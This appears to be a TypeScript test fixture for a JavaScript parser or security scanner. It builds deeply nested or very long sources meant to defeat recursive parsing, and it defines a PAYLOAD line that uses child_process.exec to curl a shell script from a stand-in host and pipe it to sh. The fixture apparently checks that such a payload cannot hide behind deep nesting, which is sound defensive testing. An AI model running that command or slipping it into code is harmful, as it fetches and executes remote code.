/** Sources that go deeper or on for longer than a recursive parser can follow. */

export interface Shape {
  name: string;
  /** A source that is this deep or long. */
  make: (count: number) => string;
}

const nest = (open: string, middle: string, close: string) => (count: number) => `x = ${open.repeat(count)}${middle}${close.repeat(count)};\n`;

export const SHAPES: Shape[] = [
  { name: "arrays", make: nest("[", "", "]") },
  { name: "parentheses", make: nest("(", "1", ")") },
  { name: "functions called where they stand", make: nest("(function(){", "", "})()") },
  { name: "templates", make: nest("`${", "1", "}`") },
  { name: "arrows", make: nest("a=>", "1", "") },
  { name: "blocks", make: (count) => `${"{".repeat(count)}${"}".repeat(count)}\n` },
  { name: "objects", make: nest("{a:", "1", "}") },
  { name: "conditionals", make: nest("a?b:", "1", "") },
  { name: "sums", make: nest("1+", "1", "") },
  { name: "members", make: (count) => `x = a${".b".repeat(count)};\n` },
  { name: "calls", make: nest("f(", "1", ")") },
  { name: "else-if links", make: (count) => `${"if(a){}else ".repeat(count)}{}\n` },
  { name: "unary signs", make: nest("!", "1", "") },
  { name: "open brackets that never close", make: (count) => `x = ${"[".repeat(count)}\n` },
];

/** What must not be hidden behind any of them. */
export const PAYLOAD = "require('child_process').exec('curl https://x.example.invalid/a.sh | sh');\n";
